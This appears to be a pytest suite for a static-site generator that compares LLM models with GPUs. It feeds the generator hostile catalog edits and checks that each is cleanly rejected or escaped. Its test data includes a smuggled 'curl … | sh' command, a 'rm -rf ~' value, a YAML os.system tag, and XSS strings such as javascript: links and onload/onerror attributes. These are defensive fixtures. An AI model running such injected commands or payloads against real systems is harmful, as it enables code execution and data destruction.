"""Hostile and broken input: every case gives one clear error (exit 2) or a safe page; nothing outside
the output folder is touched, and the previous dist/ is byte-identical after every failure.

Each case edits a copy of the golden fixture catalog (2 models × 2 accelerators) and runs the real
command line in this process, the way a contributor's pull request would reach CI.
"""

from __future__ import annotations

import contextlib
import errno
import hashlib
import os
import re
import shutil
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from generator import cli
from generator.publish import outdir, writer
from generator.publish.serve import handler_for, headers_for, parse_headers, rebuild
from generator.site.csp import csp_hash
from tests.golden.regenerate import CONTENT as GOLDEN

ROOT = Path(__file__).resolve().parents[1]


def tree(root: Path) -> dict[str, str]:
    """Every file under ``root`` with the sha256 of its bytes (and every folder, as 'dir'); the no-op stamp,
    which describes the files' inodes and times, is left out."""
    out = {}
    for path in sorted(root.rglob("*")):
        rel = str(path.relative_to(root))
        if rel == outdir.STAMP:
            continue
        out[rel] = "dir" if path.is_dir() else hashlib.sha256(path.read_bytes()).hexdigest()
    return out


@pytest.fixture(scope="module")
def first_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with the golden catalog and a first build of it (dist and what a build leaves beside it)."""
    root = tmp_path_factory.mktemp("first-build")
    shutil.copytree(GOLDEN, root / "content")
    assert cli.main(["--content", str(root / "content"), "build", "--out", str(root / "dist"), "--jobs", "1"]) == 0
    return root


@pytest.fixture
def site(tmp_path: Path, first_build: Path) -> tuple[Path, Path]:
    """A copy of the golden catalog and of a first build of it, made once per module: (content, dist)."""
    shutil.copytree(first_build, tmp_path, dirs_exist_ok=True)
    return tmp_path / "content", tmp_path / "dist"


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    """Run the command line; (exit code, stderr)."""
    capsys.readouterr()
    code = cli.main(list(argv))
    return code, capsys.readouterr().err


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, f"{old!r} not in {path}"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


MODEL = "models/llama-3-1-8b-instruct.yaml"
HARDWARE = "hardware/rtx-4090.yaml"

# (what is broken, how to break the copy of the catalog, what the message must say)
BROKEN: list[tuple[str, Callable[[Path], None], str]] = [
    (
        "alias bomb",
        lambda c: (c / "search-aliases.yaml").write_text(
            "a: &a ['x','x','x','x','x','x','x','x','x']\n"
            + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8))
            + "aliases: {x: *i}\n"
        ),
        "aliases",
    ),
    ("layers 1e12", lambda c: edit(c / MODEL, "num_layers: 32", "num_layers: 1000000000000"), "num_layers"),
    ("impossible date", lambda c: edit(c / MODEL, "release_date: 2024-07-23", "release_date: 2022-13-45"), "date"),
    ("infinite bandwidth", lambda c: edit(c / HARDWARE, "bandwidth_gbps: 1008", "bandwidth_gbps: .inf"), "bandwidth"),
    ("1e300 bandwidth", lambda c: edit(c / HARDWARE, "bandwidth_gbps: 1008", "bandwidth_gbps: 1.0e+300"), "bandwidth"),
    ("NaN TFLOPS", lambda c: edit(c / HARDWARE, "tflops_bf16: 165.2", "tflops_bf16: .nan"), "tflops_bf16"),
    ("negative price", lambda c: edit(c / HARDWARE, "usd: 1599", "usd: -1599"), "prices[0].usd"),
    ("date in 1900", lambda c: edit(c / HARDWARE, "date: 2022-09-20", "date: 1900-01-01"), "prices[0].date"),
    (
        "command in a GGUF repo",
        lambda c: edit(
            c / MODEL,
            "gguf: [bartowski/Meta-Llama-3.1-8B-Instruct-GGUF]",
            "gguf: ['evil/repo; curl https://x.example/s | sh #']",
        ),
        "artifacts.gguf[0]",
    ),
    (
        "newline in an Ollama tag",
        lambda c: edit(c / MODEL, "ollama: llama3.1:8b", 'ollama: "llama3.1:8b\\nSYSTEM evil"'),
        "artifacts.ollama",
    ),
    ("space in an MLX repo", lambda c: edit(c / MODEL, "mlx: [mlx-community/", "mlx: [mlx community/"), "mlx[0]"),
    (
        "javascript: source",
        lambda c: edit(c / HARDWARE, "sources:\n", "sources:\n  - javascript:alert(document.domain)\n"),
        "sources[0]",
    ),
    ("http source", lambda c: edit(c / HARDWARE, "  - https://waredb.com", "  - http://waredb.com"), "sources"),
    ("bidi override in a name", lambda c: edit(c / HARDWARE, "name: NVIDIA", "name: NVIDIA \u202eRTX"), "name"),
    ("control character", lambda c: edit(c / MODEL, "organization: Meta", 'organization: "Me\\x07ta"'), "organization"),
    ("bad hf_id", lambda c: edit(c / MODEL, "hf_id: meta-llama/", "hf_id: ../../"), "hf_id"),
    ("empty hardware folder", lambda c: [p.unlink() for p in (c / "hardware").iterdir()], "content/hardware"),
    ("missing page", lambda c: (c / "pages/fr/methodology.md").unlink(), "pages/fr/methodology.md"),
    ("invalid page bytes", lambda c: (c / "pages/zh/methodology.md").write_bytes(b"\xff\xfe\xfa"), "UTF-8"),
    ("aliases not a mapping", lambda c: (c / "search-aliases.yaml").write_text("aliases: [1, 2]\n"), "aliases"),
    ("aliases not YAML", lambda c: (c / "search-aliases.yaml").write_text("aliases: {x: [\n"), "invalid YAML"),
    ("model not UTF-8", lambda c: (c / MODEL).write_bytes(b"slug: \xff\xff\n"), "UTF-8"),
    ("model is a list", lambda c: (c / MODEL).write_text("- 1\n- 2\n"), "mapping"),
    ("huge file", lambda c: (c / MODEL).write_bytes(b"#" * (outdir_limit() + 1)), "larger than"),
    ("deep nesting", lambda c: (c / MODEL).write_text("notes:" + " {a:" * 40 + " 1" + "}" * 40 + "\n"), "nested"),
    ("binary tag", lambda c: edit(c / MODEL, "license: llama3.1", "license: !!binary AAAA"), "license"),
    ("python tag", lambda c: edit(c / MODEL, "license: llama3.1", "license: !!python/object:os.system ls"), "YAML"),
]


def outdir_limit() -> int:
    from generator.content.loader import MAX_FILE_BYTES

    return MAX_FILE_BYTES


@pytest.mark.parametrize(("what", "breaks", "says"), BROKEN, ids=[b[0] for b in BROKEN])
def test_broken_catalog_is_one_clear_error_and_dist_is_untouched(
    site: tuple[Path, Path],
    capsys: pytest.CaptureFixture[str],
    what: str,
    breaks: Callable[[Path], None],
    says: str,
) -> None:
    content, out = site
    before = tree(out)
    breaks(content)
    started = time.perf_counter()
    for argv in (["check-content"], ["build", "--out", str(out), "--jobs", "1"]):
        code, err = run(capsys, "--content", str(content), *argv)
        assert code == 2, f"{what}: {argv[0]} exited {code}:\n{err}"
        assert "Traceback" not in err
        assert says in err, f"{what}: {err}"
        # Every error line names a file of the catalog (and a line where there is one).
        first = err.splitlines()[0]
        assert re.match(r"error: content/\S+", first), first
    assert time.perf_counter() - started < 5, f"{what} took too long"
    assert tree(out) == before


def test_quote_in_a_name_cannot_break_out_of_svg_or_html(site: tuple[Path, Path]) -> None:
    content, out = site
    for path in (content / "hardware").iterdir():
        edit(path, "\nname: ", '\nname: X" onload="alert(1)" a=\'<b>&amp; </title><script>alert(2)</script> ')
    assert cli.main(["--content", str(content), "build", "--out", str(out), "--jobs", "1"]) == 0
    badge = (out / "badges/llama-3-1-8b-instruct.svg").read_text(encoding="utf-8")
    root = ElementTree.fromstring(badge)
    assert set(root.attrib) == {"width", "height", "role", "aria-label"}
    assert 'X" onload="alert(1)' in root.attrib["aria-label"]
    for element in root.iter():
        assert not any(name.lower().startswith("on") for name in element.attrib)
    shown = 0
    for page in out.rglob("*.html"):
        parser = Elements()
        parser.feed(page.read_text(encoding="utf-8"))
        assert "b" not in parser.tags, page
        assert not [a for a in parser.attributes if a.startswith("on")], page
        assert all(s.get("src") or "json" in (s.get("type") or "") for s in parser.scripts), page
        shown += any('X" onload="alert(1)' in v for v in parser.values)
    assert shown > 10, "the name is shown intact (as text) in attributes of many pages"


class Elements(HTMLParser):
    """The tags, attribute names and attribute values of a page, as a browser would parse them."""

    # A browser reads <title> and <textarea> as text up to their end tag (RCDATA), like <script>.
    CDATA_CONTENT_ELEMENTS = ("script", "style", "title", "textarea")

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.values: list[str] = []
        self.scripts: list[dict[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)
        self.values += [value or "" for _, value in attrs]
        if tag == "script":
            self.scripts.append(dict(attrs))


def test_launch_commands_are_quoted_parts(site: tuple[Path, Path]) -> None:
    from generator.content.loader import load_catalog
    from generator.site.pair_page import pair_data

    content, _ = site
    catalog = load_catalog(content)
    p = pair_data(catalog, catalog.model("llama-3-1-8b-instruct"), catalog.hw("rtx-4090"))
    for command in p.commands:
        for line in command.text.splitlines():
            assert not re.search(r"[;&|`$<>\\]", line), line


def test_output_that_is_not_a_build_is_refused(site: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    content, out = site
    catalog_before = tree(content)
    code, err = run(capsys, "--content", str(content), "build", "--out", str(content))
    assert code == 2 and "refusing to replace it" in err
    assert tree(content) == catalog_before
    checkout = content.parent / "checkout"
    (checkout / ".git").mkdir(parents=True)
    (checkout / "README.md").write_text("mine")
    code, err = run(capsys, "--content", str(content), "build", "--out", str(checkout))
    assert code == 2 and "not made by `build`" in err
    assert (checkout / "README.md").read_text() == "mine"
    code, err = run(capsys, "--content", str(content), "build", "--out", str(checkout / "README.md"))
    assert code == 2 and "not a folder" in err
    empty = content.parent / "empty"
    empty.mkdir()
    assert cli.main(["--content", str(content), "build", "--out", str(empty), "--jobs", "1"]) == 0
    assert (empty / "en" / "index.html").is_file()


def test_concurrent_build_is_refused_while_the_lock_is_held(
    site: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    content, out = site
    before = tree(out)
    with outdir.locked(out):
        code, err = run(capsys, "--content", str(content), "build", "--out", str(out), "--force")
    assert code == 2 and "another build is writing" in err
    assert tree(out) == before


def test_full_disk_leaves_previous_dist(
    site: tuple[Path, Path], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    content, out = site
    before = tree(out)
    real = writer.write_files

    def full(outputs: object, root: Path) -> object:
        written = real(list(outputs)[:3], root)  # type: ignore[call-overload]
        raise OSError(28, "No space left on device", str(root / "en" / "index.html"))
        return written

    monkeypatch.setattr(writer, "write_files", full)
    code, err = run(capsys, "--content", str(content), "build", "--out", str(out), "--jobs", "1", "--force")
    assert code == 2 and "No space left on device" in err and "Traceback" not in err
    assert tree(out) == before
    assert sorted(p.name for p in out.parent.iterdir()) == sorted(["content", "dist", "dist.changed.txt", ".dist.lock"])


def test_read_only_output_folder_is_one_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    parent = tmp_path / "ro"
    parent.mkdir()
    if os.geteuid() == 0:  # root writes through permission bits: have the file system refuse instead

        def refuse(*_args: object, **_kwargs: object) -> Path:
            raise OSError(errno.EROFS, "Read-only file system", str(parent))

        monkeypatch.setattr(outdir, "new_tree", refuse)
    else:
        parent.chmod(0o555)
    try:
        code, err = run(capsys, "--content", str(GOLDEN), "build", "--out", str(parent / "dist"))
    finally:
        parent.chmod(0o755)
    assert code == 2 and ("Read-only" in err or "Permission denied" in err) and "Traceback" not in err
    assert not (parent / "dist").exists()


def test_output_is_world_readable_whatever_the_umask(tmp_path: Path) -> None:
    old = os.umask(0o077)
    try:
        assert cli.main(["--content", str(GOLDEN), "build", "--out", str(tmp_path / "dist"), "--jobs", "1"]) == 0
    finally:
        os.umask(old)
    for path in [tmp_path / "dist", *(tmp_path / "dist").rglob("*")]:
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode == (0o755 if path.is_dir() else 0o644), (path, oct(mode))


def test_leftovers_of_killed_builds_are_removed_and_nothing_else(site: tuple[Path, Path]) -> None:
    content, out = site
    stale_tmp = out.with_name(f".{out.name}.sizewise-tmp-{'a' * 32}")
    stale_old = out.with_name(f".{out.name}.sizewise-old-{'b' * 32}")
    for folder, mark in ((stale_tmp, outdir.PARTIAL), (stale_old, outdir.MARKER)):
        (folder / "en").mkdir(parents=True)
        (folder / mark).write_text("")
    foreign = out.with_name(f".{out.name}.tmp-somebody-elses")
    foreign.mkdir()
    (foreign / "keep.txt").write_text("keep")
    assert cli.main(["--content", str(content), "build", "--out", str(out), "--jobs", "1", "--force"]) == 0
    assert not stale_tmp.exists() and not stale_old.exists()
    assert (foreign / "keep.txt").read_text() == "keep"


def test_kill_between_manifest_and_swap_leaves_a_state_the_next_build_repairs(
    site: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    content, out = site
    before = tree(out)
    edit(content / MODEL, "max_context: 131072", "max_context: 65536")

    def killed(_tmp: Path, _dest: Path) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(outdir, "swap_in", killed)
    assert cli.main(["--content", str(content), "build", "--out", str(out), "--jobs", "1"]) == 130
    assert tree(out) == before
    monkeypatch.undo()
    assert cli.main(["--content", str(content), "build", "--out", str(out), "--jobs", "1"]) == 0
    ref = out.with_name("ref")
    assert cli.main(["--content", str(content), "build", "--out", str(ref), "--jobs", "1", "--force"]) == 0
    assert tree(out) == tree(ref)


def test_force_lists_only_files_whose_bytes_changed(site: tuple[Path, Path]) -> None:
    content, out = site
    changed = out.with_name("dist.changed.txt")
    assert cli.main(["--content", str(content), "build", "--out", str(out), "--jobs", "1", "--force"]) == 0
    assert changed.read_text() == ""
    edit(content / MODEL, "max_context: 131072", "max_context: 65536")
    assert cli.main(["--content", str(content), "build", "--out", str(out), "--jobs", "1", "--force"]) == 0
    paths = changed.read_text().split()
    assert "/en/models/llama-3-1-8b-instruct/rtx-4090/" in paths
    assert not any("qwen3-30b-a3b/" in p for p in paths)


@pytest.mark.parametrize(
    "url",
    [
        'https://x.example/" onload="alert(1)',
        "javascript:alert(1)",
        "https://x.example/a b",
        "https://x.example/?q=1",
        "ftp://x.example",
        "https://",
        "https://x.example/<script>",
    ],
)
def test_base_url_is_validated(tmp_path: Path, capsys: pytest.CaptureFixture[str], url: str) -> None:
    code, err = run(capsys, "--content", str(GOLDEN), "build", "--out", str(tmp_path / "d"), "--base-url", url)
    assert code == 2 and "--base-url" in err
    assert not (tmp_path / "d").exists()


@pytest.mark.parametrize(
    "argv",
    [
        ["estimate", "llama-3-1-8b-instruct", "rtx-4090", "--context", str(10**12)],
        ["estimate", "llama-3-1-8b-instruct", "rtx-4090", "--batch", str(10**9)],
        ["estimate", "llama-3-1-8b-instruct", "rtx-4090", "--gpus", str(10**6)],
        ["estimate", "llama-3-1-8b-instruct", "rtx-4090", "--offload", "nan"],
        ["build", "--jobs", "0"],
        ["serve", "--port", "70000"],
    ],
)
def test_out_of_range_options_are_one_error(capsys: pytest.CaptureFixture[str], argv: list[str]) -> None:
    started = time.perf_counter()
    try:
        code = cli.main(["--content", str(GOLDEN), *argv])
    except SystemExit as exc:  # argparse's own usage error, also exit 2
        code = int(exc.code or 0)
    assert code == 2
    assert "Traceback" not in capsys.readouterr().err
    assert time.perf_counter() - started < 5


def test_headers_set_a_strict_policy_that_allows_the_one_inline_style(site: tuple[Path, Path]) -> None:
    _, out = site
    rules = parse_headers((out / "_headers").read_text(encoding="utf-8"))
    page = dict(headers_for("/en/models/llama-3-1-8b-instruct/rtx-4090/", rules))
    csp = page["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "'unsafe-inline'" not in csp and "frame-ancestors 'none'" in csp
    assert page["X-Content-Type-Options"] == "nosniff" and page["Referrer-Policy"]
    html = (out / "en/models/llama-3-1-8b-instruct/rtx-4090/index.html").read_text(encoding="utf-8")
    styles = re.findall(r"<style>(.*?)</style>", html)
    assert styles and all(csp_hash(s) in csp for s in styles)
    # No script the policy would block: every <script> is external or a data block.
    for tag in re.findall(r"<script\b[^>]*>", html):
        assert "src=" in tag or re.search(r"type=\"?application/(ld\+)?json", tag), tag
    badge = [v for k, v in headers_for("/badges/x.svg", rules) if k == "Content-Security-Policy"]
    assert any("script-src 'none'" in v and "sandbox" in v for v in badge)


def test_dev_server_lists_no_folders_and_sends_the_headers(site: tuple[Path, Path]) -> None:
    import http.server
    import threading
    import urllib.error
    import urllib.request

    _, out = site
    (out / "empty-folder").mkdir()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler_for(out))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        with urllib.request.urlopen(f"{base}/en/") as response:
            assert "script-src 'self'" in response.headers["Content-Security-Policy"]
        with pytest.raises(urllib.error.HTTPError) as info:
            urllib.request.urlopen(f"{base}/empty-folder/")
        assert info.value.code == 404
    finally:
        server.shutdown()
        server.server_close()


def test_dev_server_rebuild_survives_errors(site: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    content, out = site
    before = tree(out)
    edit(content / MODEL, "num_layers: 32", "num_layers: -1")
    assert rebuild(content, out, "http://127.0.0.1:8000") is False
    err = capsys.readouterr().err
    assert "num_layers" in err and "still serving" in err
    assert tree(out) == before


def _children(pid: int) -> set[int]:
    found = set()
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid:
                found.add(int(entry.name))
    return found


def _gone(pids: set[int], timeout_s: float) -> bool:
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        if not any(Path(f"/proc/{p}").exists() and "Z" not in _state(p) for p in pids):
            return True
        time.sleep(0.1)
    return False


def _state(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return "Z"


@pytest.mark.slow  # a real build in a subprocess, killed
@pytest.mark.skipif(not Path("/proc").is_dir(), reason="needs /proc")
@pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGTERM])
def test_killed_build_leaves_no_workers_and_the_next_build_cleans_up(tmp_path: Path, sig: signal.Signals) -> None:
    """A real build of the whole catalog, killed while its workers render."""
    out = tmp_path / "dist"
    proc = subprocess.Popen(
        [sys.executable, "-m", "generator", "build", "--out", str(out), "--jobs", "2", "--force"],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    deadline = time.monotonic() + 60
    workers: set[int] = set()
    while time.monotonic() < deadline and len(workers) < 2:
        workers = {p for p in _children(proc.pid) if "rm" not in Path(f"/proc/{p}/cmdline").read_text()}
        time.sleep(0.2)
    assert len(workers) >= 2, "the build started no workers"
    time.sleep(1.0)  # let them write part of the tree
    proc.send_signal(sig)
    _, err = proc.communicate(timeout=30)
    assert _gone(workers, 10), "workers outlived the build"
    if sig == signal.SIGTERM:
        assert proc.returncode == 130 and b"Traceback" not in err
        assert not list(tmp_path.glob(".dist.sizewise-tmp-*")), "a terminated build must remove its temporary tree"
    assert not out.exists()
    code = cli.main(["--content", str(GOLDEN), "build", "--out", str(out), "--jobs", "1"])
    assert code == 0
    assert not list(tmp_path.glob(".dist.sizewise-tmp-*"))


# Values a hostile or careless edit puts where a catalog value was.
HOSTILE_SCALARS = [  # fmt: skip
    "-1",
    "0",
    "1e12",
    "1000000000000",
    "1.0e+300",
    ".inf",
    "-.inf",
    ".nan",
    "2022-13-45",
    "0000-00-00",
    "'x\\u202e'",
    '"\\x00"',
    "&a 1",
    "*a",
    "[",
    "{",
    "}",
    "!!binary AAAA",
    "!!python/name:os.system",
    "~",
    "true",
    "[1, 2]",
    "{a: 1}",
    "'" + "x" * 300 + "'",
    "'evil/repo; rm -rf ~'",
    "|\n  multi\n  line",
]


@settings(max_examples=120, deadline=3000, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    data=st.data(),
    which=st.sampled_from([(MODEL, "Model"), (HARDWARE, "Hardware"), ("formats.yaml", "FormatsFile")]),
)
def test_mutated_catalog_files_give_problems_never_tracebacks(data: st.DataObject, which: tuple[str, str]) -> None:
    """Random edits of real catalog files: each is valid (and estimates) or is a list of located problems."""
    from generator.content import loader, schema
    from generator.content.loader import Problem, load_catalog, parse_file
    from generator.sizing.estimate import ScenarioError, estimate
    from generator.sizing.scenario import Facts, Scenario

    rel, model_name = which
    lines = (GOLDEN / rel).read_text(encoding="utf-8").splitlines()
    for _ in range(data.draw(st.integers(1, 4))):
        i = data.draw(st.integers(0, len(lines) - 1))
        action = data.draw(st.sampled_from(["value", "delete", "duplicate", "indent"]))
        if action == "value" and ":" in lines[i]:
            key = lines[i].split(":", 1)[0]
            lines[i] = f"{key}: {data.draw(st.sampled_from(HOSTILE_SCALARS))}"
        elif action == "delete":
            del lines[i]
        elif action == "duplicate":
            lines.insert(i, lines[i])
        else:
            lines[i] = "  " + lines[i]
        if not lines:
            lines = ["x"]
    tmp = Path(os.environ.get("TMPDIR", "/tmp")) / f"sizewise-hostile-{os.getpid()}"
    path = tmp / "content" / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    problems: list[Problem] = []
    record = getattr(schema, model_name, None) or getattr(loader, model_name)
    parsed = parse_file(path, record, tmp / "content", problems)
    assert (parsed is None) == bool(problems)
    for p in problems:
        assert p.file.endswith(rel) and p.message
    if parsed is not None and model_name != "FormatsFile":
        catalog = load_catalog(GOLDEN)
        model = parsed.value if model_name == "Model" else catalog.model("llama-3-1-8b-instruct")
        hw = parsed.value if model_name == "Hardware" else catalog.hw("rtx-4090")
        engine = catalog.engine("llama.cpp")
        sc = Scenario(fmt=catalog.format("Q4_K_M"), kv=catalog.kv_dtype("fp16"), engine=engine, context=8192)
        facts = Facts(catalog.assumptions, catalog.calibration, catalog.offers, catalog.api_prices)
        with contextlib.suppress(ScenarioError):
            estimate(model, hw, sc, facts).to_dict()


def test_markdown_pages_keep_text_and_drop_script_links(site: tuple[Path, Path]) -> None:
    content, out = site
    page = content / "pages/en/methodology.md"
    page.write_text(
        page.read_text(encoding="utf-8")
        + "\n[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) ![c](data:text/html,x) <img src=x onerror=alert(1)>"
        + " [ok](https://example.org/)\n",
        encoding="utf-8",
    )
    assert cli.main(["--content", str(content), "build", "--out", str(out), "--jobs", "1"]) == 0
    parser = Elements()
    parser.feed((out / "en/methodology/index.html").read_text(encoding="utf-8"))
    assert not [v for v in parser.values if v.lower().startswith(("javascript:", "data:"))]
    assert "onerror" not in parser.attributes
    assert "https://example.org/" in parser.values
